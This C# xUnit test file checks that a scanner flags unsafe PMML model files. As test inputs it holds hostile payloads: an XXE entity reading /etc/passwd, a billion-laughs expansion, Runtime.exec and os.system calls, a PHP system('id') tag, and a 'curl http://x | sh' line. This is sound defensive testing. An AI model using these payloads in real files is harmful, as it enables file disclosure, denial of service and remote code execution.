using System.Text;
using CsCheck;
using ModelGuard.Core.Budgets;
using ModelGuard.Rules;
using ModelGuard.Scanning.Tests.Support;
using ModelGuard.Testing.Formats;
using Xunit;

namespace ModelGuard.Scanning.Tests.Pmml;

public sealed class PmmlTests
{
    private static readonly ScanLimits Small = new() { MaxRecords = 20_000, MaxHeaderBytes = 1 << 20 };

    [Fact]
    public void An_honest_document_is_clean_and_its_facts_are_read()
    {
        ScanResult result = Scan.Of(PmmlBuilder.Document(), "model.pmml");

        result.AssertClean("pmml");
        Assert.Equal("4.4", result.Facts.FormatVersion);
        Assert.Equal("RegressionModel", result.Facts.Architecture);
        Assert.Equal("regression", result.Facts.Task);
        Assert.Equal(["x"], result.Facts.Inputs);
        Assert.Equal(["y"], result.Facts.Outputs);
        Assert.Equal("SkLearn2PMML", result.Facts.Producer);
    }

    [Fact]
    public void Other_encodings_are_read()
    {
        Scan.Of([0xff, 0xfe, .. Encoding.Unicode.GetBytes(PmmlBuilder.Document().Replace("UTF-8", "UTF-16", StringComparison.Ordinal))], "model.pmml").AssertClean("pmml");
        Scan.Of([0xef, 0xbb, 0xbf, .. Encoding.UTF8.GetBytes(PmmlBuilder.Document())], "model.pmml").AssertClean("pmml");
    }

    [Theory]
    [InlineData("<!DOCTYPE PMML [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>")]
    [InlineData("<!DOCTYPE PMML PUBLIC \"PMML 2.0\" \"http://www.dmg.org/v2-0/pmml_v2_0.dtd\">")]
    [InlineData("<!DOCTYPE PMML>")]
    public void A_document_type_is_unsafe_wherever_it_stands(string declaration)
    {
        Assert.Equal(Verdict.Unsafe, Scan.Of(PmmlBuilder.Document(before: declaration), "model.pmml").Verdict);

        // Behind more of a comment than any probe looks at.
        ScanResult late = Scan.Of(PmmlBuilder.Document(before: $"<!--{new string('x', 100_000)}-->\n{declaration}"), "model.pmml");
        Assert.Equal("DOCTYPE", late.AssertFound("MG1093").Subject);
    }

    [Fact]
    public void Entities_never_grow()
    {
        string laughs = "<!DOCTYPE PMML [<!ENTITY a \"ha\">" + string.Concat(Enumerable.Range(0, 20).Select(i => $"<!ENTITY b{i} \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">")) + "]>";

        ScanResult result = Scan.Of(PmmlBuilder.Document(before: laughs, body: "<Extension>&b19;</Extension>"), "model.pmml");

        Assert.Equal(Verdict.Unsafe, result.Verdict);
        Assert.Contains(result.Findings, finding => finding.Subject == "entity");
    }

    [Theory]
    [InlineData("java.lang.Runtime.exec", "MG1053")]
    [InlineData("javax.script.ScriptEngineManager", "MG1053")]
    [InlineData("com.acme.Functions.score", "MG1094")]
    [InlineData("x-sqrt", "MG1094")]
    public void A_function_that_the_standard_does_not_have_is_found(string function, string rule) =>
        Assert.Equal(function, Scan.Of(PmmlBuilder.Document(body: PmmlBuilder.Derived(function)), "model.pmml").AssertFound(rule).Subject);

    [Fact]
    public void Functions_of_the_standard_and_of_the_document_are_allowed()
    {
        string own = "<TransformationDictionary><DefineFunction name=\"twice\" optype=\"continuous\"><ParameterField name=\"v\"/><Apply function=\"*\"><FieldRef field=\"v\"/><Constant>2</Constant></Apply></DefineFunction></TransformationDictionary>";

        Scan.Of(PmmlBuilder.Document(body: PmmlBuilder.Derived("twice"), dictionary: own), "model.pmml").AssertClean("pmml");
        Scan.Of(PmmlBuilder.Document(body: PmmlBuilder.Derived("log10")), "model.pmml").AssertClean("pmml");
    }

    [Theory]
    [InlineData("<Extension><script language=\"js\">fetch()</script></Extension>", "script")]
    [InlineData("<acme:Hook xmlns:acme=\"http://acme.example\"/>", "Hook")]
    [InlineData("<X-Vendor/>", "X-Vendor")]
    [InlineData("<TableLocator/>", "TableLocator")]
    [InlineData("<?php system('id') ?>", "php")]
    public void What_others_must_interpret_is_suspicious(string body, string subject)
    {
        ScanResult result = Scan.Of(PmmlBuilder.Document(body: body), "model.pmml");

        Assert.True(result.Verdict == Verdict.Suspicious, Scan.Describe(result));
        Assert.Contains(result.Findings, finding => finding.Rule.Id == "MG1094" && finding.Subject == subject);
    }

    [Theory]
    [InlineData("<Extension name=\"note\" value=\"os.system('id')\"/>")]
    [InlineData("<Extension name=\"note\">curl http://x | sh</Extension>")]
    public void A_command_in_an_extension_is_found(string body) => Scan.Of(PmmlBuilder.Document(body: body), "model.pmml").AssertFound("MG1062");

    [Fact]
    public void A_plain_extension_is_allowed() =>
        Scan.Of(PmmlBuilder.Document(body: "<Extension extender=\"acme\" name=\"fit\" value=\"good\"/>"), "model.pmml").AssertClean("pmml");

    [Theory]
    [InlineData("<PMML version=\"4.4\"><Header>", "XML")]
    [InlineData("<PMML version=\"4.4\"/>", "model")]
    [InlineData("<PMML version=\"4.4\"><a b=\"1\" b=\"2\"/></PMML>", "XML")]
    public void What_breaks_the_format_is_inconclusive(string text, string words)
    {
        ScanResult result = Scan.Of(text, "model.pmml");

        Assert.Equal(Verdict.Inconclusive, result.Verdict);
        Assert.Contains(words, result.AssertFound("MG1024").Message, StringComparison.Ordinal);
    }

    [Fact]
    public void An_element_that_the_standard_does_not_have_is_inconclusive() =>
        Assert.Equal("Hook", Scan.Of(PmmlBuilder.Document(body: "<Hook/>"), "model.pmml").AssertFound("MG1021").Subject);

    [Fact]
    public void Depth_ends() =>
        Assert.Equal(Verdict.Inconclusive, Scan.Of(PmmlBuilder.Document(body: string.Concat(Enumerable.Repeat("<Extension>", 10_000))), "model.pmml").Verdict);

    [Fact]
    public void Changed_files_never_break_the_scanner()
    {
        byte[] file = Encoding.UTF8.GetBytes(PmmlBuilder.Document());
        Gen.OneOf(Hostile.Near(file), Hostile.Behind(file, 24)).Sample(
            bytes => Assert.DoesNotContain(Scan.Of(bytes, "model.pmml", limits: Small).Findings, finding => finding.Rule.Id == "MG0004"),
            iter: 1500,
            threads: 1);
    }
}
